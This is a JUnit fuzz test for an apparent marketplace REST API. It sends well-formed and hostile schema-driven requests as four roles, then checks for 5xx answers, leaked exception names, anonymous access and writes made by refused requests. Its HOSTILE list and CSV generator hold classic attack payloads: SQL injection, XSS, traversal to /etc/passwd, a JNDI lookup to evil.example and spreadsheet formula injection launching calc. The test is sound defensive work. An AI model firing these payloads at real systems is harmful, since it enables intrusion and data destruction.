package dev.bazaar.it.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;

import io.swagger.v3.oas.models.OpenAPI;
import io.swagger.v3.oas.models.Operation;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.oas.models.parameters.Parameter;
import io.swagger.v3.parser.OpenAPIV3Parser;
import io.swagger.v3.parser.core.models.ParseOptions;

/**
 * Fuzzes every operation of the served OpenAPI document with inputs made from its own schemas, well
 * formed and hostile (wrong types, huge and negative numbers, long strings, control characters, SQL
 * and script metacharacters, missing required fields, unknown enum values, bad ids), as four callers:
 * nobody, a customer, a shop owner and a platform admin (who changes no global setting, no demo
 * data and not its own account: see {@link #adminMay}). Every answer must be below 500, name no internal exception, be
 * documented ({@link ApiContract}), refuse an anonymous caller on a secured operation, and a refusal
 * (4xx) must leave the main tables' row counts as they were. Seeded and bounded: the seed is printed
 * ({@code -Dbazaar.fuzz.seed=} replays a run); {@code -Dbazaar.fuzz.per-operation=} sets the requests
 * per operation and caller. The figures go to target/api-fuzz.md.
 */
class ApiFuzzIT {

    /** Tables only requests write (no asynchronous consumer does), so a refusal must leave their counts alone. */
    private static final List<String> TABLES = List.of("app_user", "address", "account_token", "refresh_token", "vendor",
            "shop_invitation", "category", "product", "product_variant", "image", "stock_location", "stock_level",
            "stock_movement", "cart", "cart_line", "shipping_rate", "tax_rate", "coupon", "order_group", "vendor_order",
            "order_line", "checkout_request", "refund", "platform_setting");

    /** The admin's only back-office write: throwaway coupons no other test reads. The others change global settings or demo data. */
    private static final Set<String> ADMIN_WRITES = Set.of("POST /v1/admin/coupons");

    /** The demo admin's own account, which later tests sign in with and read: left alone. */
    private static final Set<String> ADMIN_ACCOUNT_WRITES = Set.of("PUT /v1/me", "POST /v1/me/password", "POST /v1/me/addresses",
            "PUT /v1/me/addresses/{id}", "DELETE /v1/me/addresses/{id}", "POST /v1/vendors");

    private static final Pattern LEAK = Pattern.compile("\\bat [\\w$.]+\\([\\w$]+\\.java:\\d+\\)"
            + "|\\b(java|javax|jakarta|org\\.hibernate|org\\.jboss|org\\.postgresql|com\\.ibm|io\\.openliberty)\\.[a-z]+\\.[\\w.$]+"
            + "|RESTEASY\\d+|\\bCWWK[A-Z]\\d{4}|\\bSRVE\\d{4}|\\b[A-Z]\\w*(Exception|Error)\\b");

    private static final List<String> HOSTILE = List.of("' OR '1'='1", "1; DROP TABLE app_user;--", "\" OR \"\"=\"",
            "<script>alert(1)</script>", "=HYPERLINK(\"http://evil.example\")", "../../../../etc/passwd", "%00%0d%0a",
            "line\nbreak\ttab\u0000nul\u0007bell", "\u202eevil\u200b", "😀🙃", "${jndi:ldap://evil.example/a}", "{{7*7}}",
            "null", "NaN", "-0", " ", "");

    private static final HttpClient CLIENT = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();

    private final long seed = Long.getLong("bazaar.fuzz.seed", System.nanoTime());
    private final int perOperation = Integer.getInteger("bazaar.fuzz.per-operation", 6);
    private final Random random = new Random(seed);
    private final Map<String, Integer> sentBy = new TreeMap<>();
    private final Map<Integer, Integer> statuses = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private final List<Long> knownIds = new ArrayList<>(List.of(1L, 2L, 3L));
    private final List<String> knownNumbers = new ArrayList<>(List.of("BZ-0000001"));
    private Connection database;
    private int serverErrors;
    private int rowsChangedByRefusals;
    private final Set<String> skippedForAdmin = new java.util.TreeSet<>();
    private int refusedByContainer;

    @Test
    void everyOperationSurvivesHostileInputFromEveryCaller() throws IOException, SQLException {
        System.out.println("[api-fuzz] seed " + seed + " (replay with -Dbazaar.fuzz.seed=" + seed + ")");
        OpenAPI document = parse(ApiContract.document());
        database = DriverManager.getConnection(System.getProperty("bazaar.db.url"), System.getProperty("bazaar.db.user"),
                System.getProperty("bazaar.db.password"));
        Map<String, String> callers = new LinkedHashMap<>();
        callers.put("anonymous", null);
        callers.put("customer", TestAccounts.registeredAndLoggedIn("fuzz-customer").accessToken());
        callers.put("shop owner", TestVendors.approvedShop().owner().accessToken());
        callers.put("admin", TestAccounts.admin().accessToken());
        List<Endpoint> endpoints = endpoints(document);
        long began = System.nanoTime();

        for (Map.Entry<String, String> caller : callers.entrySet()) {
            for (Endpoint endpoint : endpoints) {
                if (caller.getKey().equals("admin") && !adminMay(endpoint)) {
                    skippedForAdmin.add(endpoint.key());
                    continue;
                }
                for (int i = 0; i < perOperation; i++) {
                    fuzz(endpoint, caller.getKey(), caller.getValue(), i == 0);
                }
            }
        }

        double seconds = (System.nanoTime() - began) / 1e9;
        String report = report(endpoints.size(), seconds);
        System.out.println(report);
        Path target = Path.of("target", "api-fuzz.md");
        Files.createDirectories(target.getParent());
        Files.writeString(target, report);
        database.close();
        assertTrue(failures.isEmpty(), failures.size() + " finding(s), seed " + seed + ":\n" + failures.stream().limit(60)
                .collect(Collectors.joining("\n")));
        assertEquals(0, serverErrors);
    }

    /**
     * The admin reads everything and writes what only it would see (its cart, throwaway coupons) or what
     * its role refuses anyway (a shop's or a customer's operations: 403s worth fuzzing too).
     */
    private static boolean adminMay(Endpoint endpoint) {
        if (endpoint.method().equals("GET")) {
            return true;
        }
        if (endpoint.path().startsWith("/v1/admin/")) {
            return ADMIN_WRITES.contains(endpoint.key());
        }
        return !ADMIN_ACCOUNT_WRITES.contains(endpoint.key());
    }

    private void fuzz(Endpoint endpoint, String caller, String token, boolean wellFormed) {
        Operation operation = endpoint.operation();
        String path = endpoint.path();
        StringBuilder query = new StringBuilder();
        if (operation.getParameters() != null) {
            for (Parameter parameter : operation.getParameters()) {
                String value = parameterValue(parameter, wellFormed);
                if (value == null) {
                    continue;
                }
                if ("path".equals(parameter.getIn())) {
                    path = path.replace("{" + parameter.getName() + "}", encode(value));
                } else if ("query".equals(parameter.getIn())) {
                    query.append(query.isEmpty() ? '?' : '&').append(parameter.getName()).append('=').append(encode(value));
                }
            }
        }
        String requestPath = "/api" + path.replaceAll("\\{[^}]+}", "1");
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(Http.BASE_URL + requestPath + query))
                .timeout(Duration.ofSeconds(60)).header("X-Forwarded-For", Http.someClientAddress());
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        Body body = body(operation, wellFormed);
        request.method(endpoint.method(), body == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(body.content()));
        if (body != null) {
            request.header("Content-Type", body.type());
        }
        Map<String, Long> before = rowCounts();
        HttpResponse<String> response = send(request.build());
        int status = response.statusCode();
        sentBy.merge(caller, 1, Integer::sum);
        statuses.merge(status, 1, Integer::sum);
        String what = endpoint.key() + " as " + caller + " → " + status + " (" + excerpt(requestPath + query) + ")";

        if (status >= 500) {
            serverErrors++;
            failures.add("5xx: " + what + " " + excerpt(response.body()));
        }
        Matcher leak = LEAK.matcher(response.body());
        if (leak.find()) {
            failures.add("names an internal (" + leak.group() + "): " + what);
        }
        if (refusedByContainer(response)) {
            refusedByContainer++;
        } else {
            ApiContract.differences(endpoint.method(), "/api" + path, status, response.headers().map(), response.body())
                    .forEach(difference -> failures.add("undocumented: " + what + ": " + difference));
        }
        if (token == null && operation.getSecurity() != null && !operation.getSecurity().isEmpty() && status < 300) {
            failures.add("secured operation answered an anonymous caller: " + what);
        }
        if (status >= 400 && status < 500) {
            Map<String, Long> after = rowCounts();
            before.forEach((table, count) -> {
                if (!count.equals(after.get(table))) {
                    rowsChangedByRefusals++;
                    failures.add("a refusal wrote " + table + " (" + count + " → " + after.get(table) + "): " + what);
                }
            });
        }
        if (status < 300) {
            remember(response.body());
        }
    }

    /**
     * Liberty's own refusal of a URI with a control character or an encoded slash climbing above the
     * context root (text/html, or JSON when the request was): it answers before any application is
     * chosen, so no error page of the API's can make it a problem+json. Counted apart; it must still
     * name no exception (the leak check above).
     */
    private static boolean refusedByContainer(HttpResponse<String> response) {
        return response.statusCode() == 400 && response.body().contains("CWWWC0005I");
    }

    /** Ids and order numbers from successful answers, so later requests reach the caller's own things. */
    private void remember(String body) {
        Matcher ids = Pattern.compile("\"id\":(\\d{1,18})").matcher(body);
        while (ids.find() && knownIds.size() < 500) {
            knownIds.add(Long.parseLong(ids.group(1)));
        }
        Matcher numbers = Pattern.compile("\"number\":\"([A-Z0-9-]{1,40})\"").matcher(body);
        while (numbers.find() && knownNumbers.size() < 200) {
            knownNumbers.add(numbers.group(1));
        }
    }

    private String parameterValue(Parameter parameter, boolean wellFormed) {
        boolean required = Boolean.TRUE.equals(parameter.getRequired());
        if (!required && random.nextInt(3) == 0) {
            return null;
        }
        Schema<?> schema = parameter.getSchema();
        if (wellFormed || random.nextInt(3) == 0) {
            if ("path".equals(parameter.getIn())) {
                return isInteger(schema) ? String.valueOf(pick(knownIds)) : pick(knownNumbers);
            }
            return String.valueOf(wellFormedValue(schema, parameter.getName()));
        }
        String hostile = hostileScalar(schema);
        return hostile.length() > 5_001 ? hostile.substring(0, 5_001) : hostile; // longer URLs are the container's to refuse
    }

    private Body body(Operation operation, boolean wellFormed) {
        if (operation.getRequestBody() == null || operation.getRequestBody().getContent() == null) {
            return null;
        }
        var content = operation.getRequestBody().getContent();
        String type = content.keySet().iterator().next();
        Schema<?> schema = content.get(type).getSchema();
        if (type.startsWith("multipart/")) {
            return multipart(wellFormed);
        }
        if (type.startsWith("text/")) {
            return new Body(type, ("product_slug,name,brand,category,description,sku,options,price,compare_at_price,weight_grams,"
                    + "low_stock_threshold,location,on_hand\n" + csvLine(wellFormed) + "\n" + csvLine(false) + "\n")
                    .getBytes(StandardCharsets.UTF_8));
        }
        if (!wellFormed && random.nextInt(8) == 0) {
            String[] broken = {"{", "[]", "\"text\"", "{\"a\":", "null", "{}".repeat(3), "[".repeat(40) + "]".repeat(40),
                "{\"x\":" + "9".repeat(400) + "}"};
            return new Body("application/json", broken[random.nextInt(broken.length)].getBytes(StandardCharsets.UTF_8));
        }
        if (!wellFormed && random.nextInt(12) == 0) {
            return new Body("application/xml", "<a>1</a>".getBytes(StandardCharsets.UTF_8));
        }
        Object value = wellFormed ? wellFormedValue(schema, "body") : hostileValue(schema, "body", 0);
        return new Body("application/json", Json.write(value).getBytes(StandardCharsets.UTF_8));
    }

    private String csvLine(boolean wellFormed) {
        if (wellFormed) {
            return "fuzz-" + random.nextInt(1_000_000) + ",Fuzz thing,Fuzz,kitchen,A thing,FZ-" + random.nextInt(1_000_000)
                    + ",,9.90,,100,2,Main,5";
        }
        return String.join(",", pick(HOSTILE).replace(",", ";"), "=cmd|' /C calc'!A0", "-1", "x".repeat(random.nextInt(600)),
                "", "", "size:huge", "-9.99", "abc", "-5", "99999999999", "", "NaN");
    }

    private Body multipart(boolean wellFormed) {
        String boundary = "fuzz" + random.nextInt(1_000_000);
        byte[] file = new byte[random.nextInt(2000)];
        random.nextBytes(file);
        StringBuilder head = new StringBuilder();
        if (!wellFormed && random.nextBoolean()) {
            head.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"altText\"\r\n\r\n")
                    .append(pick(HOSTILE)).append("\r\n");
        }
        head.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"")
                .append(wellFormed || random.nextBoolean() ? "file" : pick(HOSTILE)).append("\"; filename=\"")
                .append(wellFormed ? "a.png" : pick(HOSTILE).replace("\"", "")).append("\"\r\nContent-Type: image/png\r\n\r\n");
        byte[] start = head.toString().getBytes(StandardCharsets.UTF_8);
        byte[] end = ("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[start.length + file.length + end.length];
        System.arraycopy(start, 0, all, 0, start.length);
        System.arraycopy(file, 0, all, start.length, file.length);
        System.arraycopy(end, 0, all, start.length + file.length, end.length);
        return new Body("multipart/form-data; boundary=" + boundary, all);
    }

    /** A value the schema allows, made plausible by the property's name (an e-mail address, a currency...). */
    private Object wellFormedValue(Schema<?> schema, String name) {
        if (schema == null) {
            return "x";
        }
        if (schema.getEnum() != null && !schema.getEnum().isEmpty()) {
            return schema.getEnum().get(random.nextInt(schema.getEnum().size()));
        }
        String type = schema.getType();
        if ("object".equals(type) || schema.getProperties() != null) {
            Map<String, Object> object = new LinkedHashMap<>();
            if (schema.getProperties() != null) {
                schema.getProperties().forEach((property, propertySchema) -> object.put(property, wellFormedValue(propertySchema, property)));
            }
            return object;
        }
        if ("array".equals(type)) {
            List<Object> items = new ArrayList<>();
            for (int i = random.nextInt(3); i > 0; i--) {
                items.add(wellFormedValue(schema.getItems(), name));
            }
            if (items.isEmpty() && name.equals("variants")) {
                items.add(wellFormedValue(schema.getItems(), name));
            }
            return items;
        }
        if (isInteger(schema)) {
            long low = schema.getMinimum() == null ? 1 : schema.getMinimum().longValue();
            long high = schema.getMaximum() == null ? low + 50 : schema.getMaximum().longValue();
            return name.toLowerCase().endsWith("id") ? pick(knownIds) : low + (long) random.nextInt((int) Math.min(high - low + 1, 1000));
        }
        if ("number".equals(type)) {
            return random.nextInt(10_000) / 100.0;
        }
        if ("boolean".equals(type)) {
            return random.nextBoolean();
        }
        return plausibleText(schema, name);
    }

    private String plausibleText(Schema<?> schema, String name) {
        String lower = name.toLowerCase();
        if ("date".equals(schema.getFormat())) {
            return "2026-0" + (1 + random.nextInt(9)) + "-1" + random.nextInt(10);
        }
        if ("date-time".equals(schema.getFormat())) {
            return "2026-12-0" + (1 + random.nextInt(9)) + "T10:00:00Z";
        }
        if ("uuid".equals(schema.getFormat())) {
            return java.util.UUID.randomUUID().toString();
        }
        if (lower.contains("email")) {
            return "fuzz-" + random.nextInt(1_000_000_000) + "@example.org";
        }
        if (lower.contains("currency")) {
            return pick(List.of("EUR", "USD", "GBP", "NOK"));
        }
        if (lower.contains("country")) {
            return pick(List.of("DE", "NO", "GB", "US"));
        }
        if (lower.contains("password")) {
            return "fuzz-password-" + random.nextInt(1_000_000);
        }
        if (lower.contains("slug") || lower.equals("sku") || lower.contains("code")) {
            return "fuzz-" + random.nextInt(1_000_000_000);
        }
        if (lower.contains("percent") || lower.contains("amount") || lower.contains("price")) {
            return String.valueOf(random.nextInt(100));
        }
        int max = schema.getMaxLength() == null ? 30 : Math.min(schema.getMaxLength(), 30);
        String text = "Fuzz " + random.nextInt(1_000_000);
        return text.length() > max ? text.substring(0, max) : text;
    }

    /** A value that breaks the schema, or hides an attack inside a type it allows. */
    private Object hostileValue(Schema<?> schema, String name, int depth) {
        if (schema != null && ("object".equals(schema.getType()) || schema.getProperties() != null) && depth < 3) {
            Map<String, Object> object = new LinkedHashMap<>();
            if (schema.getProperties() != null) {
                schema.getProperties().forEach((property, propertySchema) -> {
                    int choice = random.nextInt(4);
                    if (choice == 0) {
                        return; // a missing field, required or not
                    }
                    object.put(property, choice == 1 ? wellFormedValue(propertySchema, property) : hostileValue(propertySchema, property, depth + 1));
                });
            }
            if (random.nextInt(4) == 0) {
                object.put(pick(List.of("id", "role", "roles", "status", "vendorId", "__proto__", "admin")), pick(HOSTILE));
            }
            return object;
        }
        if (schema != null && "array".equals(schema.getType()) && random.nextBoolean()) {
            List<Object> items = new ArrayList<>();
            for (int i = random.nextInt(random.nextInt(10) == 0 ? 300 : 4); i > 0; i--) {
                items.add(hostileValue(schema.getItems(), name, depth + 1));
            }
            return items;
        }
        return switch (random.nextInt(8)) {
            case 0 -> null;
            case 1 -> Map.of("nested", pick(HOSTILE));
            case 2 -> List.of(1, "two");
            case 3 -> pick(List.of(Long.MAX_VALUE, Long.MIN_VALUE, -1L, 0L, 2_147_483_648L, 1e308, -1e-308));
            case 4 -> random.nextBoolean();
            default -> hostileScalar(schema);
        };
    }

    private String hostileScalar(Schema<?> schema) {
        if (schema != null && schema.getEnum() != null && random.nextBoolean()) {
            return pick(List.of("NOT_A_VALUE", String.valueOf(schema.getEnum().get(0)).toLowerCase() + "x", "0"));
        }
        if (isInteger(schema) || schema != null && "number".equals(schema.getType())) {
            return pick(List.of("-1", "0", "99999999999999999999", "9223372036854775808", "-9223372036854775809", "1e309",
                    "1.5", "0x10", "abc", "", " 7 ", "NaN", "2147483648"));
        }
        if (schema != null && "date".equals(schema.getFormat())) {
            return pick(List.of("2026-13-45", "yesterday", "0000-00-00", "99999-01-01", "2026-02-30"));
        }
        return switch (random.nextInt(4)) {
            case 0 -> "x".repeat(pick(List.of(256, 1_001, 5_001, 70_000)));
            case 1 -> "\u0000\u0001\u001f" + pick(HOSTILE);
            default -> pick(HOSTILE);
        };
    }

    private static boolean isInteger(Schema<?> schema) {
        return schema != null && "integer".equals(schema.getType());
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The row count of each of {@link #TABLES}, read in one query on the run's own connection. */
    private Map<String, Long> rowCounts() {
        String sql = "select " + TABLES.stream().map(t -> "(select count(*) from " + t + ")").collect(Collectors.joining(", "));
        try (Statement statement = database.createStatement(); ResultSet row = statement.executeQuery(sql)) {
            row.next();
            Map<String, Long> rows = new LinkedHashMap<>();
            for (int i = 0; i < TABLES.size(); i++) {
                rows.put(TABLES.get(i), row.getLong(i + 1));
            }
            return rows;
        } catch (SQLException e) {
            throw new AssertionError("counting rows failed", e);
        }
    }

    private static HttpResponse<String> send(HttpRequest request) {
        try {
            return CLIENT.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new AssertionError(request.method() + " " + excerpt(request.uri().toString()) + " failed: " + e, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError("interrupted", e);
        }
    }

    private static OpenAPI parse(String yaml) {
        ParseOptions options = new ParseOptions();
        options.setResolve(true);
        options.setResolveFully(true);
        return new OpenAPIV3Parser().readContents(yaml, null, options).getOpenAPI();
    }

    /** Operations that make things first (POST without a path id), then the rest, each in document order. */
    private static List<Endpoint> endpoints(OpenAPI document) {
        List<Endpoint> endpoints = new ArrayList<>();
        document.getPaths().forEach((path, item) -> item.readOperationsMap().forEach((method, operation) ->
                endpoints.add(new Endpoint(method.name(), path, operation))));
        endpoints.sort((a, b) -> Boolean.compare(!a.creates(), !b.creates()));
        return endpoints;
    }

    private String report(int operations, double seconds) {
        StringBuilder report = new StringBuilder("# API fuzzing (ApiFuzzIT)\n\n")
                .append("Seed ").append(seed).append(", ").append(perOperation).append(" requests per operation and caller, ")
                .append(operations).append(" operations, ").append(String.format("%.0f", seconds)).append(" s.\n\n")
                .append("| caller | requests |\n|---|---|\n");
        sentBy.forEach((caller, count) -> report.append("| ").append(caller).append(" | ").append(count).append(" |\n"));
        report.append("| all | ").append(sentBy.values().stream().mapToInt(Integer::intValue).sum()).append(" |\n\n")
                .append("Admin writes left out (global settings, demo data other tests use, the admin's own account): ").append(skippedForAdmin.size())
                .append(" operations: ").append(String.join(", ", skippedForAdmin)).append(".\n\n| status | answers |\n|---|---|\n");
        statuses.forEach((status, count) -> report.append("| ").append(status).append(" | ").append(count).append(" |\n"));
        report.append("\n- 5xx answers: ").append(serverErrors)
                .append("\n- rows changed by refused (4xx) requests: ").append(rowsChangedByRefusals)
                .append("\n- refused by Liberty before the API (400 with its message CWWWC0005I, no stack trace): ").append(refusedByContainer)
                .append("\n- findings (5xx, leaks, undocumented answers, writes by refusals): ").append(failures.size()).append('\n');
        failures.stream().limit(60).forEach(failure -> report.append("  - ").append(failure.replace("|", "\\|")).append('\n'));
        return report.toString();
    }

    private static String excerpt(String body) {
        return body.length() > 200 ? body.substring(0, 200) + "…" : body;
    }

    private record Endpoint(String method, String path, Operation operation) {

        String key() {
            return method + " " + path;
        }

        boolean creates() {
            return method.equals("POST") && !path.contains("{");
        }
    }

    private record Body(String type, byte[] content) {
    }

    /** Just enough JSON writing for generated values (maps, lists, strings, numbers, booleans, null). */
    private static final class Json {

        static String write(Object value) {
            if (value == null) {
                return "null";
            }
            if (value instanceof Map<?, ?> map) {
                return map.entrySet().stream().map(e -> quote(String.valueOf(e.getKey())) + ":" + write(e.getValue()))
                        .collect(Collectors.joining(",", "{", "}"));
            }
            if (value instanceof List<?> list) {
                return list.stream().map(Json::write).collect(Collectors.joining(",", "[", "]"));
            }
            if (value instanceof Number || value instanceof Boolean) {
                return String.valueOf(value);
            }
            return quote(String.valueOf(value));
        }

        private static String quote(String text) {
            StringBuilder quoted = new StringBuilder("\"");
            for (char c : text.toCharArray()) {
                switch (c) {
                    case '"' -> quoted.append("\\\"");
                    case '\\' -> quoted.append("\\\\");
                    default -> {
                        if (c < 0x20) {
                            quoted.append(String.format("\\u%04x", (int) c));
                        } else {
                            quoted.append(c);
                        }
                    }
                }
            }
            return quoted.append('"').toString();
        }
    }
}
